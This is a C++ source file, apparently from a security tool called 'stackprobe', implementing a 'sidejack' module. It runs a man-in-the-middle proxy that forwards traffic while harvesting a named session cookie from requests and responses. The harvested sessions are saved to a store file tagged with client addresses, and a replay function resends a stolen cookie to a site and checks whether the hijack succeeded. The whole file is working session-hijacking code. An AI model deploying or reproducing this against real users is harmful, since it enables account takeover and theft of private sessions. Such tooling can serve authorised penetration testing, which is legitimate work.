/*****************************************************************************
*  Copyright 2026 the stackprobe authors
*
*  Licensed under the Apache License, Version 2.0 (the "License");
*  you may not use this file except in compliance with the License.
*  You may obtain a copy of the License at
*
* http://www.apache.org/licenses/LICENSE-2.0
*
* Unless required by applicable law or agreed to in writing, software
* distributed under the License is distributed on an "AS IS" BASIS,
* WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
* See the License for the specific language governing permissions and
* limitations under the License.
* *****************************************************************************/

#include "stackprobe/sidejack.hpp"

#include <ctime>
#include <deque>
#include <fstream>
#include <sstream>

#include "stackprobe/errors.hpp"

namespace stackprobe::sidejack {

namespace {

std::string iso8601(std::time_t t) {
  std::tm tm{};
  gmtime_r(&t, &tm);
  char buf[32];
  std::strftime(buf, sizeof(buf), "%Y-%m-%dT%H:%M:%SZ", &tm);
  return buf;
}

std::string compose_url(const http::Request& request) {
  const std::string* host = request.header("Host");
  if (host) return "http://" + *host + request.target;
  return request.target;
}

// Cookie pairs out of "a=1; b=2".
std::vector<std::pair<std::string, std::string>> split_cookies(
    const std::string& header) {
  std::vector<std::pair<std::string, std::string>> out;
  std::size_t pos = 0;
  while (pos < header.size()) {
    std::size_t end = header.find(';', pos);
    std::string_view item(
        header.data() + pos,
        (end == std::string::npos ? header.size() : end) - pos);
    while (!item.empty() && item.front() == ' ') item.remove_prefix(1);
    std::size_t eq = item.find('=');
    if (eq != std::string_view::npos && eq > 0) {
      out.emplace_back(std::string(item.substr(0, eq)),
                       std::string(item.substr(eq + 1)));
    }
    if (end == std::string::npos) break;
    pos = end + 1;
  }
  return out;
}

// Value of a Set-Cookie header up to its first attribute.
std::pair<std::string, std::string> set_cookie_pair(const std::string& value) {
  std::string first = value.substr(0, value.find(';'));
  std::size_t eq = first.find('=');
  if (eq == std::string::npos) return {};
  return {first.substr(0, eq), first.substr(eq + 1)};
}

// Consumes directional byte chunks and emits sessions for every cookie
// bearing the configured name. Set-Cookie responses are attributed to the
// URL of the oldest unanswered request.
class SessionExtractor {
 public:
  SessionExtractor(std::string cookie_name, std::string source_client,
                   std::function<std::string()> timestamper)
      : cookie_name_(std::move(cookie_name)),
        source_client_(std::move(source_client)),
        timestamper_(std::move(timestamper)) {}

  std::vector<CapturedSession> feed(capture::Direction dir,
                                    std::string_view bytes) {
    scanner(dir).feed(bytes);
    return drain();
  }

  std::vector<CapturedSession> finish() {
    to_server_.finish();
    to_client_.finish();
    return drain();
  }

 private:
  std::string cookie_name_;
  std::string source_client_;
  std::function<std::string()> timestamper_;
  http::MessageScanner to_server_;
  http::MessageScanner to_client_;
  std::deque<std::string> pending_urls_;
  std::string last_url_;

  http::MessageScanner& scanner(capture::Direction dir) {
    return dir == capture::Direction::client_to_server ? to_server_
                                                       : to_client_;
  }

  CapturedSession make_session(const std::string& url,
                               const std::string& name,
                               const std::string& value) {
    CapturedSession s;
    s.url = url;
    s.cookie_name = name;
    s.cookie_value = value;
    s.observed_at = timestamper_();
    s.source_client = source_client_;
    return s;
  }

  std::vector<CapturedSession> drain() {
    std::vector<CapturedSession> sessions;
    // Requests first so responses can pair with the URLs they answered.
    while (auto msg = to_server_.next()) {
      if (!msg->is_request) continue;
      std::string url = compose_url(msg->request);
      pending_urls_.push_back(url);
      last_url_ = url;
      if (const std::string* cookie = msg->request.header("Cookie")) {
        for (const auto& [name, value] : split_cookies(*cookie)) {
          if (name == cookie_name_) {
            sessions.push_back(make_session(url, name, value));
          }
        }
      }
    }
    while (auto msg = to_client_.next()) {
      if (msg->is_request) continue;
      std::string url = last_url_;
      if (!pending_urls_.empty()) {
        url = pending_urls_.front();
        pending_urls_.pop_front();
      }
      for (const auto& h : msg->response.headers) {
        if (!http::iequals(h.name, "Set-Cookie")) continue;
        auto [name, value] = set_cookie_pair(h.value);
        if (name == cookie_name_) {
          sessions.push_back(make_session(url, name, value));
        }
      }
    }
    return sessions;
  }
};

}  // namespace

std::vector<CapturedSession> harvest_frames(
    const std::vector<capture::Frame>& frames, const std::string& cookie_name,
    const std::string& source_client) {
  std::size_t counter = 0;
  SessionExtractor extractor(cookie_name, source_client, [&counter] {
    // Capture frames carry no clock; stamp records with epoch + ordinal so
    // repeated harvests of one capture are byte-identical.
    return iso8601(static_cast<std::time_t>(counter++));
  });
  std::vector<CapturedSession> sessions;
  for (const auto& frame : frames) {
    auto found = extractor.feed(frame.direction, frame.payload);
    sessions.insert(sessions.end(), found.begin(), found.end());
  }
  auto found = extractor.finish();
  sessions.insert(sessions.end(), found.begin(), found.end());
  return sessions;
}

std::vector<CapturedSession> harvest_capture(const std::string& capture_path,
                                             const std::string& cookie_name) {
  auto frames = capture::read_all(capture_path);
  return harvest_frames(frames, cookie_name);
}

std::string session_store_line(const CapturedSession& session) {
  return session.observed_at + "\t" + session.source_client + "\t" +
         session.url + "\t" + session.cookie_name + "\t" +
         session.cookie_value;
}

void save_session_store(const std::string& path,
                        const std::vector<CapturedSession>& sessions) {
  std::ofstream out(path, std::ios::binary | std::ios::trunc);
  if (!out) throw SinkWriteError("cannot write session store " + path);
  for (const auto& session : sessions) {
    out << session_store_line(session) << '\n';
  }
}

std::vector<CapturedSession> load_session_store(const std::string& path) {
  std::ifstream in(path, std::ios::binary);
  if (!in) throw Error("cannot open session store " + path);
  std::vector<CapturedSession> sessions;
  std::string line;
  std::size_t line_no = 0;
  while (std::getline(in, line)) {
    ++line_no;
    if (!line.empty() && line.back() == '\r') line.pop_back();
    if (line.empty()) continue;
    std::vector<std::string> fields;
    std::size_t pos = 0;
    while (true) {
      std::size_t tab = line.find('\t', pos);
      fields.push_back(line.substr(
          pos, tab == std::string::npos ? std::string::npos : tab - pos));
      if (tab == std::string::npos) break;
      pos = tab + 1;
    }
    if (fields.size() != 5 || fields[3].empty() || fields[4].empty()) {
      throw StoreParseError(line_no);
    }
    CapturedSession s;
    s.observed_at = fields[0];
    s.source_client = fields[1];
    s.url = fields[2];
    s.cookie_name = fields[3];
    s.cookie_value = fields[4];
    sessions.push_back(std::move(s));
  }
  return sessions;
}

ParsedUrl parse_url(const std::string& url) {
  ParsedUrl out;
  std::string rest = url;
  const std::string scheme = "http://";
  if (rest.rfind(scheme, 0) == 0) rest = rest.substr(scheme.size());
  std::size_t slash = rest.find('/');
  std::string authority =
      slash == std::string::npos ? rest : rest.substr(0, slash);
  out.path = slash == std::string::npos ? "/" : rest.substr(slash);
  std::size_t colon = authority.rfind(':');
  if (colon == std::string::npos) {
    out.host = authority;
  } else {
    out.host = authority.substr(0, colon);
    try {
      out.port = static_cast<std::uint16_t>(
          std::stoul(authority.substr(colon + 1)));
    } catch (const std::exception&) {
      throw Error("bad port in url '" + url + "'");
    }
  }
  if (out.host.empty()) throw Error("no host in url '" + url + "'");
  return out;
}

HijackAttempt replay(const CapturedSession& session, const std::string& url,
                     const std::string& marker, net::Millis timeout) {
  ParsedUrl parsed = parse_url(url);
  http::Request req;
  req.method = "GET";
  req.target = parsed.path;
  req.headers.push_back(
      {"Cookie", session.cookie_name + "=" + session.cookie_value});

  HijackAttempt attempt;
  attempt.session = session;
  attempt.requested_url = url;
  http::Response resp =
      http::simple_request(parsed.host, parsed.port, req, timeout);
  attempt.status = resp.status;
  attempt.body_marker_found =
      !marker.empty() && resp.body.find(marker) != std::string::npos;
  return attempt;
}

ProxyTap::ProxyTap(Options options) : options_(std::move(options)) {}

ProxyTap::~ProxyTap() { stop(); }

void ProxyTap::start() {
  if (!options_.capture_path.empty()) {
    writer_ = std::make_unique<capture::CaptureWriter>(options_.capture_path);
  }
  listener_.emplace(options_.listen_host, options_.listen_port);
  port_ = listener_->port();
  stopping_.store(false);
  accept_thread_ = std::thread([this] {
    while (!stopping_.load()) {
      auto sock = listener_->accept(stopping_);
      if (!sock) continue;
      workers_.emplace_back(
          [this](net::Socket s) { pump(std::move(s)); }, std::move(*sock));
    }
  });
}

void ProxyTap::stop() {
  if (!listener_) return;
  stopping_.store(true);
  if (accept_thread_.joinable()) accept_thread_.join();
  for (auto& w : workers_) {
    if (w.joinable()) w.join();
  }
  workers_.clear();
  listener_->close();
  listener_.reset();
  if (writer_) writer_->flush();
}

void ProxyTap::record(capture::Direction dir, std::string_view bytes) {
  std::lock_guard<std::mutex> lock(sink_mutex_);
  if (writer_) {
    writer_->append(dir, bytes);
    writer_->flush();
  }
}

void ProxyTap::pump(net::Socket client) {
  net::Socket upstream;
  try {
    upstream = net::connect_to(options_.upstream_host, options_.upstream_port,
                               net::Millis(5000));
  } catch (const TargetUnreachableError&) {
    return;  // nothing to forward to; client connection is dropped
  }
  connections_.fetch_add(1);

  std::string client_addr = client.peer();
  if (client_addr.empty()) client_addr = "-";
  auto extractor = std::make_shared<SessionExtractor>(
      options_.cookie_name, client_addr,
      [] { return iso8601(std::time(nullptr)); });
  std::mutex extractor_mutex;

  auto forward = [this, &extractor, &extractor_mutex](
                     net::Socket& from, net::Socket& to,
                     capture::Direction dir) {
    from.set_recv_timeout(net::Millis(200));
    std::string chunk;
    while (!stopping_.load()) {
      chunk.clear();
      auto status = from.recv_some(chunk);
      if (status == net::Socket::RecvStatus::timeout) continue;
      if (status != net::Socket::RecvStatus::data) break;
      record(dir, chunk);
      std::vector<CapturedSession> sessions;
      {
        std::lock_guard<std::mutex> lock(extractor_mutex);
        sessions = extractor->feed(dir, chunk);
      }
      if (options_.on_session) {
        for (const auto& s : sessions) options_.on_session(s);
      }
      if (!to.send_all(chunk)) break;
    }
    to.shutdown_send();
  };

  std::thread downstream([&] {
    forward(upstream, client, capture::Direction::server_to_client);
  });
  forward(client, upstream, capture::Direction::client_to_server);
  downstream.join();

  std::vector<CapturedSession> tail;
  {
    std::lock_guard<std::mutex> lock(extractor_mutex);
    tail = extractor->finish();
  }
  if (options_.on_session) {
    for (const auto& s : tail) options_.on_session(s);
  }
}

}  // namespace stackprobe::sidejack
